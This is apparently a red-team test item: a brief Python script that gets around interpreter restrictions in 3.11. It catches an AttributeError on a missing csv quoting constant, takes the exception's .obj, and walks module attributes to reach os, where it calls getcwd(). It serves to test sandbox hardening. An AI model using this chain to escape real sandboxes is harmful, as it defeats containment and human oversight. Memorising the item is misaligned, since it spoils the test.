# family: red team, round 38 (exceptions carrying objects: AttributeError.obj of a policy name missing in 3.11)
import csv
import io


def writer_for(buffer):
    try:
        return csv.writer(buffer, quoting=csv.QUOTE_STRINGS)
    except AttributeError as problem:
        return problem.obj


module = writer_for(io.StringIO())
print(module)
print(module.re.enum.sys.modules["os"].getcwd())
